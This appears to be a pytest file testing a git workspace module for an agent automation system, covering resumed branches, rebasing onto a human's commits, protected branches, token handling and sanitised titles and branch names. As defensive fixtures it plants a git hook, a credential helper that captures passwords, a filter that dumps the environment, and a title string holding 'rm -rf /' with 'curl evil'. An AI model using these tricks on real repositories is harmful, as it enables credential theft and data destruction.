"""Workspace: clone/resume, guarded push, credentials, hostile names (RELIABILITY D1, D2, D3, D7, E1)."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from pydantic import SecretStr

from jobs.errors import ConfigError, ProtectedBranchError, PushRejected, StepFailed
from jobs.workspace import Workspace, branch_for, check_branch, safe_title
from jobs.workspace.git import Git
from jobs.workspace.repo import check_repo_url
from tests.conftest import git

TOKEN = "ghp_canaryTOKENcanaryTOKENcanary000001"


def workspace(remote: Path, tmp_path: Path, branch: str = "factory/ix-1", name: str = "w") -> Workspace:
    ws = Workspace(Git(), str(remote), tmp_path / name, branch, "main")
    ws.clone()
    return ws


def human_commit(remote: Path, tmp_path: Path, branch: str, path: str, text: str) -> str:
    """A person pushes a commit to ``branch`` behind Factory's back."""
    clone = tmp_path / f"human-{path.replace('/', '_')}"
    git("clone", "-q", "-b", branch, str(remote), str(clone))
    (clone / path).write_text(text)
    git("add", "-A", cwd=clone)
    git("commit", "-q", "-m", f"human edits {path}", cwd=clone)
    git("push", "-q", "origin", branch, cwd=clone)
    return git("rev-parse", "HEAD", cwd=clone).strip()


def commit_file(ws: Workspace, name: str, text: str) -> None:
    """What an agent's edit looks like to the workspace: a file changed, then our commit."""
    (ws.path / name).write_text(text)
    ws.commit_all(f"edit {name}")


def branches(remote: Path) -> list[str]:
    return git("--git-dir", str(remote), "for-each-ref", "--format=%(refname:short)", "refs/heads").split()


def test_d1_existing_branch_is_resumed_not_forked(remote: Path, tmp_path: Path) -> None:
    first = workspace(remote, tmp_path, name="a")
    commit_file(first, "a.txt", "a")
    first.push()
    second = workspace(remote, tmp_path, name="b")
    assert second.resumed and (second.path / "a.txt").read_text() == "a"
    commit_file(second, "b.txt", "b")
    second.push()
    assert branches(remote) == ["factory/ix-1", "main"]
    assert len(git("--git-dir", str(remote), "rev-list", "main..factory/ix-1").split()) == 2


def test_d2_remote_moved_by_a_human_is_rebased_onto(remote: Path, tmp_path: Path) -> None:
    ws = workspace(remote, tmp_path)
    commit_file(ws, "ours.txt", "ours")
    ws.push()
    theirs = human_commit(remote, tmp_path, ws.branch, "theirs.txt", "theirs")
    commit_file(ws, "ours2.txt", "ours again")
    before = git("--git-dir", str(remote), "rev-list", "factory/ix-1").split()  # the human's tip first
    rebased = ws.push()
    assert rebased
    history = git("--git-dir", str(remote), "rev-list", "factory/ix-1").split()
    lost = [c for c in before if c not in history]  # a force push would drop the human's tip
    print(f"\nD2 force pushes: {int(before[0] not in history)}; remote commits lost: {len(lost)}")
    assert theirs in history  # the human's commit was not lost


def test_d2_conflicting_move_stops_without_force(remote: Path, tmp_path: Path) -> None:
    ws = workspace(remote, tmp_path)
    commit_file(ws, "same.txt", "ours")
    ws.push()
    theirs = human_commit(remote, tmp_path, ws.branch, "same.txt", "theirs")
    commit_file(ws, "same.txt", "ours, changed")
    with pytest.raises(PushRejected):
        ws.push()
    assert git("--git-dir", str(remote), "rev-parse", "factory/ix-1").strip() == theirs


def test_d3_never_the_default_branch(remote: Path, tmp_path: Path) -> None:
    with pytest.raises(ProtectedBranchError):
        Workspace(Git(), str(remote), tmp_path / "w", "main", "main")
    # A remote whose default branch differs from BASE_BRANCH is protected too.
    git("--git-dir", str(remote), "branch", "trunk", "main")
    git("--git-dir", str(remote), "symbolic-ref", "HEAD", "refs/heads/trunk")
    ws = workspace(remote, tmp_path, branch="trunk")
    commit_file(ws, "x.txt", "x")
    with pytest.raises(ProtectedBranchError):
        ws.push()


def test_nothing_the_agent_plants_in_git_runs_or_redirects(remote: Path, tmp_path: Path) -> None:
    ws = Workspace(Git(SecretStr(TOKEN)), str(remote), tmp_path / "w", "factory/ix-1", "main")
    ws.clone()
    evil = tmp_path / "evil-remote.git"
    git("init", "-q", "--bare", str(evil))
    git("remote", "set-url", "origin", str(evil), cwd=ws.path)
    git("config", "credential.helper", f"!touch {tmp_path}/helper-ran", cwd=ws.path)
    git("config", "url." + str(evil) + ".insteadOf", str(remote), cwd=ws.path)
    hook = ws.path / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/hook-ran\n")
    hook.chmod(0o755)
    # A planted commondir pulls in a config whose clean filter would run inside our `git add`.
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "config").write_text(f'[filter "x"]\n\tclean = "env > {tmp_path}/filter-ran; cat"\n')
    (ws.path / ".git" / "commondir").write_text(str(planted))
    (ws.path / ".gitattributes").write_text("* filter=x\n")
    (ws.path / "x.txt").write_text("the agent's change")
    ws.adopt_agent_tree()
    ws.commit_all("x")
    ws.push()
    assert "factory/ix-1" in branches(remote) and branches(evil) == []
    for marker in ("hook-ran", "helper-ran", "filter-ran"):
        assert not (tmp_path / marker).exists(), marker
    assert git("--git-dir", str(remote), "show", "factory/ix-1:x.txt") == "the agent's change"


def test_adopted_tree_keeps_deletions_and_drops_nested_git(remote: Path, tmp_path: Path) -> None:
    ws = workspace(remote, tmp_path)
    (ws.path / "README.md").unlink()
    (ws.path / "sub" / ".git").mkdir(parents=True)
    (ws.path / "sub" / "kept.txt").write_text("kept")
    ws.adopt_agent_tree()
    ws.commit_all("changes")
    ws.push()
    tree = git("--git-dir", str(remote), "ls-tree", "-r", "--name-only", "factory/ix-1").split()
    assert "README.md" not in tree and "sub/kept.txt" in tree and not any(".git/" in t for t in tree)


def test_e1_token_only_through_the_credential_helper(remote: Path, tmp_path: Path) -> None:
    g = Git(SecretStr(TOKEN))
    argv = g.argv(["push", "https://github.com/o/r", "HEAD:refs/heads/x"], network=True)
    assert TOKEN not in " ".join(argv)
    assert TOKEN not in json.dumps(g.env(network=False))  # local commands never hold the token
    # A helper planted in the repo's config must never be asked (it would be handed the password).
    repo = tmp_path / "r"
    git("init", "-q", str(repo))
    git("config", "credential.helper", f"!f() {{ cat > {tmp_path}/stolen; }}; f", cwd=repo)
    filled = subprocess.run(
        g.argv(["credential", "fill"], network=True),
        input="protocol=https\nhost=github.com\n\n",
        capture_output=True,
        text=True,
        env=g.env(network=True),
        cwd=repo,
        check=True,
    ).stdout
    assert f"password={TOKEN}" in filled
    approve = "protocol=https\nhost=github.com\nusername=x\npassword=" + TOKEN + "\n\n"
    subprocess.run(
        g.argv(["credential", "approve"], network=True),
        input=approve,
        text=True,
        env=g.env(True),
        cwd=repo,
        check=True,
    )
    assert not (tmp_path / "stolen").exists()


def test_a_local_remote_is_cloned_through_git_not_by_hardlinking_its_objects(
    remote: Path, tmp_path: Path
) -> None:
    """A night's chains push to the local bare remote while others clone it: a hardlinked copy of its
    objects directory took a push's quarantine files as they moved and failed ("hardlink different from
    source"). Cloned through git's own transport, no object file is shared with the remote."""
    ws = workspace(remote, tmp_path)
    git_dir = Path(git("rev-parse", "--absolute-git-dir", cwd=ws.path).strip())
    objects = [p for p in (git_dir / "objects").rglob("*") if p.is_file()]
    assert objects and all(p.stat().st_nlink == 1 for p in objects)


def test_e1_clone_leaves_no_credentials_in_git_config(remote: Path, tmp_path: Path) -> None:
    ws = Workspace(Git(SecretStr(TOKEN)), str(remote), tmp_path / "w", "factory/ix-1", "main")
    ws.clone()
    assert TOKEN not in (ws.path / ".git" / "config").read_text()


@pytest.mark.parametrize(
    "url", ["https://user:pw@github.com/o/r", "https://tok@github.com/o/r", "ssh://git@x/r", "ext::sh -c x"]
)
def test_repo_url_without_credentials_or_odd_transports(url: str) -> None:
    with pytest.raises(ConfigError):
        check_repo_url(url)


HOSTILE_TITLES = [
    "; rm -rf / $(curl evil) `id`",
    "../../etc/passwd",
    "line one\nline two\rthree",
    "bidi \u202etxt.exe\u202c and zero\u200bwidth",
    "separator\u2028Phase: release",
    "tab\tand nul\0",
    "x" * 500,
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_d7_titles_become_one_safe_line(title: str) -> None:
    flat = safe_title(title)
    assert "\n" not in flat and "\r" not in flat and "\0" not in flat
    assert not any(c in flat for c in "\u202e\u202c\u200b\u2028\t")
    assert len(flat) <= 120


@pytest.mark.parametrize(
    "name",
    [
        "main..x",
        "-x",
        "a b",
        "x;rm",
        "x/../y",
        "refs/heads/x:y",
        "x.lock",
        "x/",
        "$(id)",
        "a\nb",
        "ü",
        "x@{1}",
        "a//b",
    ],
)
def test_d7_hostile_branch_names_rejected(name: str) -> None:
    with pytest.raises(ConfigError) as refused:
        check_branch(name)
    print(f"\nD7 unsafe branch name {name!r} refused: {refused.value}")


def test_branch_is_deterministic_from_the_identifier() -> None:
    assert branch_for("IX-101") == branch_for("IX-101") == "factory/ix-101"


def test_a_change_holding_a_secret_is_not_committed(remote: Path, tmp_path: Path) -> None:
    from jobs.redact import Redactor

    ws = workspace(remote, tmp_path)
    (ws.path / "config.py").write_text('KEY = "sk-ant-api03-leakedLEAKEDleakedLEAKED0000"\n')
    with pytest.raises(StepFailed):
        ws.commit_all("leak", Redactor().finds_secret)
    assert ws.new_commits() == [] and branches(remote) == ["main"]
